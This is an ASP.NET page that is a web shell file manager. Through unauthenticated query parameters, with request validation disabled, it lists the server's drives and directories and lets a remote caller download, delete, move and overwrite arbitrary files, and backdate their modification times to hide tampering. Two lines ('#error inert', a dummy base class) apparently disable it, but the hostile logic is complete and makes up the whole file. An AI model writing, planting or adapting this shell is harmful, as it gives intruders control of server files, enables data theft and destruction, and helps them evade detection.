<%@ Page Language="C#" Inherits="Inert.Nothing" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
#error inert
string Cur { get { return Request["d"] ?? Server.MapPath("."); } }
protected void Page_Load(object sender, EventArgs e)
{
    switch (Request["op"])
    {
        case "get":
            Response.AddHeader("Content-Disposition", "attachment; filename=" + Path.GetFileName(Request["f"]));
            Response.WriteFile(Request["f"]);
            Response.End();
            break;
        case "del": File.Delete(Request["f"]); break;
        case "mv": File.Move(Request["f"], Request["to"]); break;
        case "save": File.WriteAllText(Request["f"], Request.Form["body"]); break;
        case "time": File.SetLastWriteTime(Request["f"], DateTime.Parse(Request["t"])); break;
    }
    foreach (DriveInfo dv in DriveInfo.GetDrives()) Response.Write("<a href='?d=" + dv.Name + "'>" + dv.Name + "</a> ");
    Response.Write("<hr><table>");
    foreach (string d in Directory.GetDirectories(Cur)) Response.Write("<tr><td>[<a href='?d=" + d + "'>" + d + "</a>]</td></tr>");
    foreach (string f in Directory.GetFiles(Cur))
        Response.Write("<tr><td>" + f + "</td><td><a href='?op=get&f=" + f + "'>get</a> <a href='?op=del&f=" + f + "'>del</a></td></tr>");
    Response.Write("</table>");
}
</script>
